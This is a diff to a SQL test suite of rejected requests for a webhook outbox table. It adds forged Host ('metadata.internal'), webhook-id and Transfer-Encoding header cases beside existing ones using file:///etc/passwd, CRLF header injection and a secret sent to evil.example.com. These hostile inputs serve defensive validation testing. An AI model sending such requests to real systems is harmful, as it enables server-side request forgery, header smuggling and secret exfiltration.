@@ -94,6 +94,9 @@ SELECT c.name AS "case", r.state AS sqlstate, r.message
 	('ad-hoc scheme', $$INSERT INTO nextphone.outbox (url) VALUES ('file:///etc/passwd')$$),
 	('ad-hoc method', $$INSERT INTO nextphone.outbox (method, url) VALUES ('TRACE', 'https://x.example.com/')$$),
 	('ad-hoc header name', $$INSERT INTO nextphone.outbox (url, headers) VALUES ('https://x.example.com/', '{"A B": "1"}')$$),
+	('ad-hoc Host header', $$INSERT INTO nextphone.outbox (url, headers) VALUES ('https://x.example.com/', '{"Host": "metadata.internal"}')$$),
+	('ad-hoc webhook-id', $$INSERT INTO nextphone.outbox (url, headers) VALUES ('https://x.example.com/', '{"webhook-id": "msg_forged"}')$$),
+	('ad-hoc Transfer-Encoding', $$INSERT INTO nextphone.outbox (url, headers) VALUES ('https://x.example.com/', '{"transfer-encoding": "chunked"}')$$),
 	('ad-hoc header value', $$INSERT INTO nextphone.outbox (url, headers) VALUES ('https://x.example.com/', '{"A": "1\r\nB: 2"}')$$),
 	('ad-hoc secret', $$INSERT INTO nextphone.outbox (url, headers) VALUES ('https://evil.example.com/', '{"Authorization": "Bearer {{secret.crm_key}}"}')$$),
 	('ad-hoc body too large', $$INSERT INTO nextphone.outbox (url, body) VALUES ('https://x.example.com/', repeat('x', 2000))$$)
